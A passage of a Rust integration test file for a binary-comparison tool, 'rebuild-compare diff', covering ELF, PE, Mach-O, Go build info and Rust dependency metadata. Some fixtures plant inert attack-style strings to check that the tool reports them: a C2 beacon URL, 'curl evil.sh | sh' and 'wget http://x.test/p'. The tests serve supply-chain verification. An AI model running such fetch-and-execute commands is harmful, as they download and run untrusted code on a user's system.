//! `rebuild-compare diff` on real binaries built by the tests (C via `cc`,
//! Go via `go build`) and on PE / Mach-O fixtures written with `object`.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use object::write::{Object as WriteObject, StandardSection};
use object::{Architecture, BinaryFormat, Endianness};
use rebuild_compare::binary::Binary;
use serde_json::Value;
use tempfile::TempDir;

fn bin() -> &'static str {
    env!("CARGO_BIN_EXE_rebuild-compare")
}

/// Runs `rebuild-compare diff a b args...`: exit code and stdout.
fn run_diff(a: &Path, b: &Path, args: &[&str]) -> (i32, String) {
    let out = Command::new(bin())
        .arg("diff")
        .arg(a)
        .arg(b)
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .expect("run rebuild-compare");
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("panicked"),
        "panic: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    (
        out.status.code().expect("exit code"),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

fn json_diff(a: &Path, b: &Path) -> (i32, Value) {
    let (code, out) = run_diff(a, b, &["--format", "json"]);
    (code, serde_json::from_str(&out).expect("valid JSON"))
}

fn explanations(v: &Value) -> Vec<String> {
    v["explanations"]
        .as_array()
        .expect("explanations")
        .iter()
        .map(|e| e.as_str().expect("string").to_string())
        .collect()
}

fn section<'v>(v: &'v Value, name: &str) -> &'v Value {
    v["sections"]
        .as_array()
        .expect("sections")
        .iter()
        .find(|s| s["name"] == name)
        .unwrap_or_else(|| panic!("no section {name} in {}", v["sections"]))
}

/// Fails the test, naming `tool`, when it is not installed: a test that
/// needs a tool never passes by skipping.
fn require_tool(tool: &str) {
    let found = Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        found,
        "{tool} is not installed: run scripts/install-test-deps.sh"
    );
}

/// Compiles `source` with `cc flags...` into `dir/name` (from a file named
/// `main.c` in `dir/name.src/`, so the symbol table's file name is the same
/// for every build).
fn cc(dir: &Path, name: &str, source: &str, flags: &[&str]) -> PathBuf {
    let src = dir.join(format!("{name}.src"));
    std::fs::create_dir_all(&src).expect("mkdir");
    std::fs::write(src.join("main.c"), source).expect("write C source");
    let out = dir.join(name);
    let status = Command::new("cc")
        .args(flags)
        .arg("-o")
        .arg(&out)
        .arg("main.c")
        .current_dir(&src)
        .status()
        .expect("run cc");
    assert!(status.success(), "cc failed");
    out
}

const HELLO_C: &str = "#include <stdio.h>\nint main(void) { puts(\"hello, world\"); return 0; }\n";

fn planted_c(message: &str) -> String {
    format!(
        "#include <stdio.h>\nconst char *note = \"{message}\";\n\
         int main(void) {{ puts(note); return 0; }}\n"
    )
}

/// A Go cache shared by the tests of this binary (std compiles once).
fn go_env() -> &'static TempDir {
    static DIR: OnceLock<TempDir> = OnceLock::new();
    DIR.get_or_init(|| TempDir::new().expect("tempdir"))
}

/// Writes a tiny dependency-free module into `dir/src` (unless it is
/// there already) and builds it with `go build flags...` into `dir/name`.
fn go_build(dir: &Path, name: &str, flags: &[&str]) -> PathBuf {
    go_build_env(dir, name, flags, &[])
}

/// [`go_build`] with `main_go` as the program (written into `dir/src`).
fn go_build_source(dir: &Path, name: &str, main_go: &str, flags: &[&str]) -> PathBuf {
    let src = dir.join("src");
    std::fs::create_dir_all(&src).expect("mkdir");
    std::fs::write(src.join("go.mod"), "module example.com/hello\n\ngo 1.19\n").expect("go.mod");
    std::fs::write(src.join("main.go"), main_go).expect("main.go");
    go_build(dir, name, flags)
}

/// [`go_build`] with extra environment variables (`GOARCH`).
fn go_build_env(dir: &Path, name: &str, flags: &[&str], vars: &[(&str, &str)]) -> PathBuf {
    let src = dir.join("src");
    if !src.exists() {
        std::fs::create_dir_all(&src).expect("mkdir");
        std::fs::write(src.join("go.mod"), "module example.com/hello\n\ngo 1.19\n")
            .expect("go.mod");
        std::fs::write(
            src.join("main.go"),
            "package main\n\nimport \"fmt\"\n\nvar version = \"dev\"\n\n\
             func main() { fmt.Println(\"hello\", version) }\n",
        )
        .expect("main.go");
    }
    go_build_at(&src, &dir.join(name), flags, vars)
}

/// Builds the single-file program `main_go` (module `example.com/hello`,
/// source in `dir/name.src/`) with `go build flags...` into `dir/name`.
fn go_build_program(dir: &Path, name: &str, main_go: &str, flags: &[&str]) -> PathBuf {
    let src = dir.join(format!("{name}.src"));
    std::fs::create_dir_all(&src).expect("mkdir");
    std::fs::write(src.join("go.mod"), "module example.com/hello\n\ngo 1.19\n").expect("go.mod");
    std::fs::write(src.join("main.go"), main_go).expect("main.go");
    go_build_at(&src, &dir.join(name), flags, &[])
}

/// `go build flags... -o out .` in `src`, offline, with the shared cache
/// and `vars` added to the environment.
fn go_build_at(src: &Path, out: &Path, flags: &[&str], vars: &[(&str, &str)]) -> PathBuf {
    let env = go_env().path();
    let status = Command::new("go")
        .arg("build")
        .args(flags)
        .arg("-o")
        .arg(out)
        .arg(".")
        .current_dir(src)
        .env("GOCACHE", env.join("cache"))
        .env("GOPATH", env.join("gopath"))
        .env("GOFLAGS", "-mod=mod")
        .env("GO111MODULE", "on")
        .env("GOPROXY", "off")
        .env("CGO_ENABLED", "0")
        .envs(vars.iter().copied())
        .status()
        .expect("run go build");
    assert!(status.success(), "go build failed");
    out.to_path_buf()
}

#[test]
fn identical_binaries_exit_zero_and_say_so() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(dir.path(), "a", HELLO_C, &[]);
    let b = dir.path().join("b");
    std::fs::copy(&a, &b).expect("copy");
    let (code, text) = run_diff(&a, &b, &[]);
    assert_eq!(code, 0);
    assert!(text.contains("\nidentical\n"), "{text}");
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 0);
    assert_eq!(v["identical"], true);
    assert_eq!(explanations(&v), vec!["the files are identical"]);
    assert!(v["sections"]
        .as_array()
        .expect("sections")
        .iter()
        .all(|s| s["status"] == "same"));
}

#[test]
fn planted_string_is_named_in_the_explanations() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(
        dir.path(),
        "a",
        &planted_c("beacon: https://c2.example.net/x"),
        &[],
    );
    let b = cc(
        dir.path(),
        "b",
        &planted_c("a harmless greeting, friends"),
        &[],
    );
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    assert_eq!(v["identical"], false);
    assert_eq!(
        v["strings"]["only_a"][0],
        "beacon: https://c2.example.net/x"
    );
    assert_eq!(v["strings"]["only_b"][0], "a harmless greeting, friends");
    let explained = explanations(&v);
    assert!(
        explained.contains(&"strings only in A: \"beacon: https://c2.example.net/x\"".to_string()),
        "{explained:?}"
    );
    let rodata = section(&v, ".rodata");
    assert_eq!(rodata["status"], "differs");
    let range = &rodata["ranges"][0];
    assert!(range["length"].as_u64().expect("length") > 0);
    assert!(range["file_offset"].as_u64().is_some());
    // The text view has the hex dump of the change.
    let (_, text) = run_diff(&a, &b, &[]);
    assert!(text.contains("--- A .rodata"), "{text}");
    let rodata_hunks = text.split("--- A .rodata").nth(1).expect("rodata hunks");
    assert!(rodata_hunks.contains("|https://c2.examp|"), "{text}");
}

#[test]
fn different_build_ids_only_are_recognised() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(dir.path(), "a", HELLO_C, &["-Wl,--build-id=0x1111"]);
    let b = cc(dir.path(), "b", HELLO_C, &["-Wl,--build-id=0x2222"]);
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    assert_eq!(v["build_id"]["a"]["gnu"], "1111");
    assert_eq!(v["build_id"]["b"]["gnu"], "2222");
    let explained = explanations(&v);
    assert!(
        explained[0].starts_with("only the build ID differs (GNU build-id 1111 vs 2222)"),
        "{explained:?}"
    );
    let differing: Vec<&str> = v["sections"]
        .as_array()
        .expect("sections")
        .iter()
        .filter(|s| s["status"] != "same")
        .map(|s| s["name"].as_str().expect("name"))
        .collect();
    assert_eq!(differing, vec![".note.gnu.build-id"]);
}

#[test]
fn stripped_against_unstripped_says_which_is_stripped() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(dir.path(), "a", HELLO_C, &["-g", "-s"]);
    let b = cc(dir.path(), "b", HELLO_C, &["-g"]);
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    assert_eq!(section(&v, ".symtab")["status"], "only-b");
    assert_eq!(section(&v, ".debug_info")["status"], "only-b");
    assert_eq!(section(&v, ".text")["status"], "same");
    let explained = explanations(&v);
    assert!(
        explained.iter().any(
            |e| e.starts_with("only B has debug sections (") && e.ends_with("): A is stripped")
        ),
        "{explained:?}"
    );
}

#[test]
fn elf_against_script_is_compared_as_raw_bytes() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(dir.path(), "a", HELLO_C, &[]);
    let b = dir.path().join("run.sh");
    std::fs::write(&b, "#!/bin/sh\necho hello, world\n").expect("write script");
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    assert_eq!(v["a"]["format"], "elf");
    assert_eq!(v["a"]["machine"], std::env::consts::ARCH);
    assert_eq!(v["b"]["format"], "script");
    assert_eq!(v["b"]["machine"], "any");
    assert_eq!(
        v["notes"][0],
        "formats differ (elf vs script): compared as raw bytes"
    );
    assert_eq!(v["sections"].as_array().map(Vec::len), Some(1));
    assert_eq!(section(&v, "[whole file]")["status"], "differs");
    assert_eq!(
        explanations(&v)[0],
        format!(
            "file formats differ: A is elf ({}), B is script (/bin/sh)",
            std::env::consts::ARCH
        )
    );
}

#[test]
fn truncated_elf_falls_back_to_raw_bytes_with_a_note() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(dir.path(), "a", HELLO_C, &[]);
    let bytes = std::fs::read(&a).expect("read");
    let b = dir.path().join("truncated");
    std::fs::write(&b, &bytes[..bytes.len() / 2]).expect("write");
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    assert_eq!(v["b"]["format"], "elf");
    let notes: Vec<&str> = v["notes"]
        .as_array()
        .expect("notes")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(
        notes
            .iter()
            .any(|n| n.starts_with("B looks like elf but does not parse (")
                && n.ends_with("): compared as raw bytes")),
        "{notes:?}"
    );
    let whole = section(&v, "[whole file]");
    assert_eq!(whole["status"], "differs");
    assert_eq!(whole["a_size"], bytes.len());
    assert_eq!(whole["b_size"], bytes.len() / 2);
}

/// An ELF64 file whose `count` sections all cover most of `payload`, each
/// starting a little further in: every byte is compared again and again.
fn overlapping_sections_elf(payload: &[u8], count: usize) -> Vec<u8> {
    let shstrtab = b"\0.shstrtab\0.x\0";
    let data_offset = 64u64;
    let section_headers = data_offset + (payload.len() + shstrtab.len()) as u64;
    let mut elf = Vec::new();
    elf.extend_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    for half in [2u16, 62] {
        elf.extend_from_slice(&half.to_le_bytes()); // e_type EXEC, e_machine x86_64
    }
    elf.extend_from_slice(&1u32.to_le_bytes()); // e_version
    elf.extend_from_slice(&0u64.to_le_bytes()); // e_entry
    elf.extend_from_slice(&0u64.to_le_bytes()); // e_phoff
    elf.extend_from_slice(&section_headers.to_le_bytes()); // e_shoff
    elf.extend_from_slice(&0u32.to_le_bytes()); // e_flags
    let shnum = u16::try_from(count + 2).unwrap();
    for half in [64u16, 0, 0, 64, shnum, 1] {
        elf.extend_from_slice(&half.to_le_bytes()); // ehsize, phentsize, phnum, shentsize, shnum, shstrndx
    }
    elf.extend_from_slice(payload);
    elf.extend_from_slice(shstrtab);
    let header = |name: u32, kind: u32, offset: u64, size: u64| {
        let mut h = Vec::with_capacity(64);
        h.extend_from_slice(&name.to_le_bytes());
        h.extend_from_slice(&kind.to_le_bytes());
        h.extend_from_slice(&[0; 16]); // flags, addr
        h.extend_from_slice(&offset.to_le_bytes());
        h.extend_from_slice(&size.to_le_bytes());
        h.extend_from_slice(&[0; 8]); // link, info
        h.extend_from_slice(&1u64.to_le_bytes()); // addralign
        h.extend_from_slice(&0u64.to_le_bytes()); // entsize
        h
    };
    elf.extend_from_slice(&[0; 64]);
    elf.extend_from_slice(&header(
        1,
        3,
        data_offset + payload.len() as u64,
        shstrtab.len() as u64,
    ));
    for i in 0..count as u64 {
        let start = (i * 37) % (payload.len() as u64 / 2);
        elf.extend_from_slice(&header(
            11,
            1,
            data_offset + start,
            payload.len() as u64 - start,
        ));
    }
    elf
}

#[test]
fn thousands_of_overlapping_sections_are_compared_within_a_budget() {
    let dir = TempDir::new().expect("tempdir");
    let payload: Vec<u8> = (0..256 * 1024u32)
        .map(|i| (i * 7 + i / 251) as u8)
        .collect();
    let mut changed = payload.clone();
    changed[1000] ^= 1;
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    std::fs::write(&a, overlapping_sections_elf(&payload, 5000)).expect("write");
    std::fs::write(&b, overlapping_sections_elf(&changed, 5000)).expect("write");
    let out = Command::new(bin())
        .args(["diff", "--format", "json"])
        .arg(&a)
        .arg(&b)
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&out.stdout).expect("JSON");
    let sections = report["sections"].as_array().expect("sections");
    // The budget (64 MiB plus four times the two files' sizes) holds the
    // headers and the first 137 sections of about 250 KiB on each side.
    assert_eq!(sections.len(), 140);
    assert_eq!(
        report["notes"],
        serde_json::json!([format!(
            "the files' sections overlap: {} more sections ({} bytes of section data) were not \
             compared one by one; whether the files are identical is still decided by their digests",
            4863, 2007441614u64
        )])
    );
}

#[test]
fn fifos_and_directories_are_refused_without_waiting() {
    let dir = TempDir::new().expect("tempdir");
    let a = dir.path().join("a");
    std::fs::write(&a, b"x").expect("write");
    let fifo = dir.path().join("fifo");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    for other in [fifo, dir.path().to_path_buf()] {
        // Nothing ever writes to the FIFO: opening it for reading would hang.
        let out = Command::new(bin())
            .arg("diff")
            .arg(&a)
            .arg(&other)
            .output()
            .expect("run");
        assert_eq!(out.status.code(), Some(2));
        assert_eq!(
            String::from_utf8_lossy(&out.stderr),
            format!(
                "error: {} is not a regular file; diff compares files\n",
                other.display()
            )
        );
    }
}

#[test]
fn missing_file_is_an_error_with_exit_code_two() {
    let dir = TempDir::new().expect("tempdir");
    let a = dir.path().join("a");
    std::fs::write(&a, b"x").expect("write");
    let out = Command::new(bin())
        .arg("diff")
        .arg(&a)
        .arg(dir.path().join("missing"))
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.starts_with("error: cannot open "), "{stderr}");
}

#[test]
fn unknown_formats_differ_as_raw_bytes_and_empty_files_are_identical() {
    let dir = TempDir::new().expect("tempdir");
    let a = dir.path().join("a.bin");
    let b = dir.path().join("b.bin");
    std::fs::write(&a, b"some data here").expect("write");
    std::fs::write(&b, b"some DATA here").expect("write");
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    assert_eq!(v["a"]["format"], "unknown");
    let whole = section(&v, "[whole file]");
    assert_eq!(whole["differing_bytes"], 4);
    assert_eq!(whole["ranges"][0]["offset"], 5);
    assert_eq!(whole["ranges"][0]["length"], 4);
    let e1 = dir.path().join("e1");
    let e2 = dir.path().join("e2");
    std::fs::write(&e1, b"").expect("write");
    std::fs::write(&e2, b"").expect("write");
    assert_eq!(run_diff(&e1, &e2, &[]).0, 0);
}

#[test]
fn json_output_uses_the_contract_field_names() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(dir.path(), "a", &planted_c("first planted text"), &[]);
    let b = cc(dir.path(), "b", &planted_c("other planted text"), &[]);
    let (_, v) = json_diff(&a, &b);
    let keys = |v: &Value| -> Vec<String> {
        let mut k: Vec<String> = v.as_object().expect("object").keys().cloned().collect();
        k.sort();
        k
    };
    let has_all = |v: &Value, want: &[&str]| {
        let k = keys(v);
        for w in want {
            assert!(k.contains(&w.to_string()), "{w} missing from {k:?}");
        }
    };
    has_all(
        &v,
        &[
            "identical",
            "a",
            "b",
            "sections",
            "go_buildinfo",
            "strings",
            "explanations",
        ],
    );
    for side in ["a", "b"] {
        has_all(&v[side], &["path", "sha256", "size", "format", "machine"]);
        assert!(v[side]["sha256"]
            .as_str()
            .expect("sha256")
            .starts_with("sha256:"));
    }
    assert_eq!(v["go_buildinfo"], Value::Null);
    has_all(&v["strings"], &["only_a", "only_b"]);
    let rodata = section(&v, ".rodata");
    has_all(
        rodata,
        &[
            "name",
            "status",
            "a_size",
            "b_size",
            "a_sha256",
            "b_sha256",
            "differing_bytes",
            "ranges",
        ],
    );
    has_all(&rodata["ranges"][0], &["offset", "length"]);
    assert!(rodata["a_sha256"]
        .as_str()
        .expect("a_sha256")
        .starts_with("sha256:"));
}

#[test]
fn max_hunks_bounds_the_hex_dump() {
    let dir = TempDir::new().expect("tempdir");
    let a = dir.path().join("a.bin");
    let b = dir.path().join("b.bin");
    let data = vec![0u8; 64 * 1024];
    let mut changed = data.clone();
    for i in 0..50 {
        changed[i * 1024] = 0xff;
    }
    std::fs::write(&a, &data).expect("write");
    std::fs::write(&b, &changed).expect("write");
    let (code, out) = run_diff(
        &a,
        &b,
        &["--format", "json", "--max-hunks", "3", "--context", "1"],
    );
    assert_eq!(code, 1);
    let v: Value = serde_json::from_str(&out).expect("json");
    assert_eq!(v["hunks"].as_array().map(Vec::len), Some(3));
    // One changed line with one line of context on each side.
    assert_eq!(v["hunks"][0]["lines"].as_array().map(Vec::len), Some(3));
    assert_eq!(section(&v, "[whole file]")["hunks_omitted"], 47);
    assert_eq!(section(&v, "[whole file]")["differing_bytes"], 50);
}

#[test]
fn go_ldflags_difference_is_reported_as_a_build_setting() {
    require_tool("go");
    let dir = TempDir::new().expect("tempdir");
    let a = go_build(dir.path(), "a", &["-ldflags=-X main.version=1.0"]);
    let b = go_build(dir.path(), "b", &["-ldflags=-X main.version=2.0"]);
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    let info = &v["go_buildinfo"];
    assert!(info["a"]["go_version"]
        .as_str()
        .expect("go version")
        .starts_with("go1."));
    assert_eq!(info["a"]["path"], "example.com/hello");
    assert_eq!(info["a"]["main"]["path"], "example.com/hello");
    let differences = info["differences"].as_array().expect("differences");
    assert_eq!(differences.len(), 1, "{differences:?}");
    assert_eq!(differences[0]["key"], "build:-ldflags");
    assert_eq!(differences[0]["a"], "-X main.version=1.0");
    assert_eq!(differences[0]["b"], "-X main.version=2.0");
    let explained = explanations(&v);
    assert_eq!(
        explained[0],
        "Go build setting -ldflags: -X main.version=1.0 -> -X main.version=2.0 \
         (different linker flags, e.g. -X version stamps or -s -w)"
    );
    assert!(v["build_id"]["a"]["go"].as_str().is_some());
}

#[test]
fn go_trimpath_difference_points_at_embedded_paths() {
    require_tool("go");
    let dir = TempDir::new().expect("tempdir");
    let a = go_build(dir.path(), "a", &[]);
    let b = go_build(dir.path(), "b", &["-trimpath"]);
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    let explained = explanations(&v);
    assert_eq!(
        explained[0],
        "Go build setting -trimpath: (unset) -> true (one build embeds absolute source paths)"
    );
    let src_dir = dir.path().join("src");
    let paths = explained
        .iter()
        .find(|e| e.starts_with("paths under "))
        .unwrap_or_else(|| panic!("no paths explanation in {explained:?}"));
    assert!(
        paths.ends_with(
            "embedded only in A: built without -trimpath (Go) or -ffile-prefix-map (C/Rust)"
        ),
        "{paths}"
    );
    let top = src_dir
        .components()
        .take(4)
        .collect::<PathBuf>()
        .display()
        .to_string();
    assert!(paths.contains(&top), "{paths} should name {top}");
}

/// A minimal x86-64 PE image with one `.text` section holding `code`.
fn pe_image(code: &[u8]) -> Vec<u8> {
    use object::pe;
    use object::write::pe::{NtHeaders, Writer};
    let mut buffer = Vec::new();
    let mut writer = Writer::new(true, 0x1000, 0x200, &mut buffer);
    writer.reserve_dos_header_and_stub();
    writer.reserve_nt_headers(16);
    writer.reserve_section_headers(1);
    let text = writer.reserve_text_section(code.len() as u32);
    writer.write_dos_header_and_stub().expect("dos header");
    writer.write_nt_headers(NtHeaders {
        machine: pe::IMAGE_FILE_MACHINE_AMD64,
        time_date_stamp: 0,
        characteristics: pe::IMAGE_FILE_EXECUTABLE_IMAGE | pe::IMAGE_FILE_LARGE_ADDRESS_AWARE,
        major_linker_version: 14,
        minor_linker_version: 0,
        address_of_entry_point: text.virtual_address,
        image_base: 0x1_4000_0000,
        major_operating_system_version: 6,
        minor_operating_system_version: 0,
        major_image_version: 0,
        minor_image_version: 0,
        major_subsystem_version: 6,
        minor_subsystem_version: 0,
        subsystem: pe::IMAGE_SUBSYSTEM_WINDOWS_CUI,
        dll_characteristics: pe::DllFlags::default(),
        size_of_stack_reserve: 0x10_0000,
        size_of_stack_commit: 0x1000,
        size_of_heap_reserve: 0x10_0000,
        size_of_heap_commit: 0x1000,
    });
    writer.write_section_headers();
    writer.write_section(text.file_offset, code);
    buffer
}

#[test]
fn pe_images_are_compared_by_section() {
    let dir = TempDir::new().expect("tempdir");
    let a = dir.path().join("a.exe");
    let b = dir.path().join("b.exe");
    std::fs::write(&a, pe_image(&[0xc3; 64])).expect("write");
    let mut code = [0xc3; 64];
    code[10] = 0x90;
    std::fs::write(&b, pe_image(&code)).expect("write");
    let (exit, v) = json_diff(&a, &b);
    assert_eq!(exit, 1);
    assert_eq!(v["a"]["format"], "pe");
    assert_eq!(v["a"]["machine"], "x86_64");
    assert_eq!(section(&v, "[PE headers]")["status"], "same");
    let text = section(&v, ".text");
    assert_eq!(text["status"], "differs");
    assert_eq!(text["differing_bytes"], 1);
    assert_eq!(text["ranges"][0]["offset"], 10);
    // Headers fill the first 0x200 bytes (the file alignment).
    assert_eq!(text["ranges"][0]["file_offset"], 0x200 + 10);
}

/// A Mach-O object with code and a data string.
fn macho_object(arch: Architecture, data: &[u8]) -> Vec<u8> {
    let mut object = WriteObject::new(BinaryFormat::MachO, arch, Endianness::Little);
    let text = object.section_id(StandardSection::Text);
    object.append_section_data(text, &[0xc3; 16], 16);
    let data_section = object.section_id(StandardSection::Data);
    object.append_section_data(data_section, data, 8);
    object.write().expect("write Mach-O")
}

/// A universal (fat) Mach-O holding `slices` (big-endian fat header).
fn fat_macho(slices: &[(u32, Vec<u8>)]) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(&0xcafe_babe_u32.to_be_bytes());
    out.extend_from_slice(&(slices.len() as u32).to_be_bytes());
    let mut offset = 0x1000u32;
    let mut bodies = Vec::new();
    for (cputype, body) in slices {
        out.extend_from_slice(&cputype.to_be_bytes());
        out.extend_from_slice(&0u32.to_be_bytes());
        out.extend_from_slice(&offset.to_be_bytes());
        out.extend_from_slice(&(body.len() as u32).to_be_bytes());
        out.extend_from_slice(&12u32.to_be_bytes());
        bodies.push((offset, body));
        offset += (body.len() as u32).div_ceil(0x1000) * 0x1000;
    }
    for (offset, body) in bodies {
        out.resize(offset as usize, 0);
        out.extend_from_slice(body);
    }
    out
}

#[test]
fn macho_files_are_compared_by_segment_and_section() {
    let dir = TempDir::new().expect("tempdir");
    let a = dir.path().join("a.o");
    let b = dir.path().join("b.o");
    std::fs::write(
        &a,
        macho_object(Architecture::Aarch64, b"curl evil.sh | sh\0"),
    )
    .expect("w");
    std::fs::write(
        &b,
        macho_object(Architecture::Aarch64, b"echo hello world\0\0"),
    )
    .expect("w");
    let (exit, v) = json_diff(&a, &b);
    assert_eq!(exit, 1);
    assert_eq!(v["a"]["format"], "macho");
    assert_eq!(v["a"]["machine"], "aarch64");
    assert_eq!(section(&v, "__TEXT,__text")["status"], "same");
    assert_eq!(section(&v, "__DATA,__data")["status"], "differs");
    assert_eq!(section(&v, "[Mach-O header]")["status"], "same");
    assert_eq!(v["strings"]["only_a"][0], "curl evil.sh | sh");
}

#[test]
fn universal_macho_slices_are_compared_per_architecture() {
    const CPU_TYPE_X86_64: u32 = 0x0100_0007;
    const CPU_TYPE_ARM64: u32 = 0x0100_000c;
    let dir = TempDir::new().expect("tempdir");
    let a = dir.path().join("a");
    let b = dir.path().join("b");
    let build = |arm_data: &[u8]| {
        fat_macho(&[
            (
                CPU_TYPE_X86_64,
                macho_object(Architecture::X86_64, b"same on both\0"),
            ),
            (
                CPU_TYPE_ARM64,
                macho_object(Architecture::Aarch64, arm_data),
            ),
        ])
    };
    std::fs::write(&a, build(b"arm64 slice A\0")).expect("w");
    std::fs::write(&b, build(b"arm64 slice B\0")).expect("w");
    let (exit, v) = json_diff(&a, &b);
    assert_eq!(exit, 1);
    assert_eq!(v["a"]["format"], "macho");
    assert_eq!(v["a"]["machine"], "universal(x86_64,aarch64)");
    assert_eq!(section(&v, "[fat header]")["status"], "same");
    assert_eq!(section(&v, "[x86_64] __DATA,__data")["status"], "same");
    let arm = section(&v, "[aarch64] __DATA,__data");
    assert_eq!(arm["status"], "differs");
    assert_eq!(arm["differing_bytes"], 1);
    assert_eq!(
        arm["ranges"][0]["file_offset"].as_u64(),
        arm["ranges"][0]["b_file_offset"].as_u64()
    );
}

#[test]
fn identify_reports_format_and_machine_of_one_file() {
    let dir = TempDir::new().expect("tempdir");
    let script = dir.path().join("s");
    std::fs::write(&script, "#!/usr/bin/env python3\nprint(1)\n").expect("w");
    let kind = Binary::read(&script).expect("identify").kind;
    assert_eq!(kind.format, rebuild_compare::binary::Format::Script);
    assert_eq!(kind.interpreter.as_deref(), Some("/usr/bin/env"));
    let pe = dir.path().join("p.exe");
    std::fs::write(&pe, pe_image(&[0xc3; 16])).expect("w");
    let kind = Binary::read(&pe).expect("identify").kind;
    assert_eq!(kind.format, rebuild_compare::binary::Format::Pe);
    assert_eq!(kind.machine, "x86_64");
    assert!(Binary::read(&dir.path().join("none")).is_err());
}

/// A relocatable ELF for `arch` with `data` in `.data`.
fn elf_object(arch: Architecture, endian: Endianness, data: &[u8]) -> Vec<u8> {
    let mut object = WriteObject::new(BinaryFormat::Elf, arch, endian);
    let text = object.section_id(StandardSection::Text);
    object.append_section_data(text, &[0; 8], 4);
    let data_section = object.section_id(StandardSection::Data);
    object.append_section_data(data_section, data, 4);
    object.write().expect("write ELF")
}

#[test]
fn big_endian_32_bit_elf_is_compared_by_section() {
    let dir = TempDir::new().expect("tempdir");
    let a = dir.path().join("a.o");
    let b = dir.path().join("b.o");
    let big = Endianness::Big;
    std::fs::write(
        &a,
        elf_object(Architecture::Mips, big, b"wget http://x.test/p\0"),
    )
    .expect("w");
    std::fs::write(
        &b,
        elf_object(Architecture::Mips, big, b"nothing to see here.\0"),
    )
    .expect("w");
    let (exit, v) = json_diff(&a, &b);
    assert_eq!(exit, 1);
    assert_eq!(v["a"]["format"], "elf");
    assert_eq!(v["a"]["machine"], "mips");
    assert_eq!(section(&v, ".text")["status"], "same");
    assert_eq!(section(&v, ".data")["status"], "differs");
    assert_eq!(section(&v, "[ELF header]")["a_size"], 52);
    assert_eq!(v["strings"]["only_a"][0], "wget http://x.test/p");
}

#[test]
fn rust_toolchain_and_cargo_auditable_dependencies_are_compared() {
    use flate2::write::ZlibEncoder;
    use std::io::Write;
    require_tool("rustc");
    require_tool("objcopy");
    let dir = TempDir::new().expect("tempdir");
    let src = dir.path().join("main.rs");
    std::fs::write(&src, "fn main() { println!(\"hi\"); }\n").expect("write");
    let built = dir.path().join("hello");
    let status = Command::new("rustc")
        .arg("-o")
        .arg(&built)
        .arg(&src)
        .status()
        .expect("run rustc");
    assert!(status.success());
    let with_deps = |name: &str, serde_version: &str| {
        let json = format!(
            r#"{{"packages":[{{"name":"hello","version":"0.1.0","source":"local","root":true}},
            {{"name":"serde","version":"{serde_version}","source":"crates.io"}}]}}"#
        );
        let mut encoder = ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(json.as_bytes()).expect("compress");
        let dep_file = dir.path().join(format!("{name}.dep"));
        std::fs::write(&dep_file, encoder.finish().expect("compress")).expect("write");
        let out = dir.path().join(name);
        let status = Command::new("objcopy")
            .arg(format!("--add-section=.dep-v0={}", dep_file.display()))
            .arg(&built)
            .arg(&out)
            .status()
            .expect("run objcopy");
        assert!(status.success());
        out
    };
    let a = with_deps("a", "1.0.1");
    let b = with_deps("b", "1.0.2");
    let (exit, v) = json_diff(&a, &b);
    assert_eq!(exit, 1);
    let rustc = v["rust"]["a"]["rustc"].as_str().expect("rustc version");
    assert!(rustc.starts_with("rustc version "), "{rustc}");
    assert_eq!(v["rust"]["a"]["packages"][1]["version"], "1.0.1");
    let differences = v["rust"]["differences"].as_array().expect("differences");
    assert_eq!(differences.len(), 1);
    assert_eq!(differences[0]["key"], "dep:serde");
    assert!(explanations(&v)
        .contains(&"Rust dependency serde: 1.0.1 (crates.io) -> 1.0.2 (crates.io)".to_string()));
}

#[test]
fn go_build_from_a_modified_tree_is_explained() {
    require_tool("go");
    require_tool("git");
    let dir = TempDir::new().expect("tempdir");
    // The first build writes the module; commit it so VCS stamping applies.
    go_build(dir.path(), "unstamped", &[]);
    let src = dir.path().join("src");
    let git = |args: &[&str]| {
        let status = Command::new("git")
            .args(args)
            .current_dir(&src)
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@example.com")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@example.com")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status()
            .expect("run git");
        assert!(status.success(), "git {args:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "go.mod", "main.go"]);
    git(&["commit", "-q", "-m", "init"]);
    let a = go_build(dir.path(), "a", &[]);
    // A change that leaves the code as it is.
    std::fs::write(
        src.join("go.mod"),
        "module example.com/hello\n\ngo 1.19\n\n",
    )
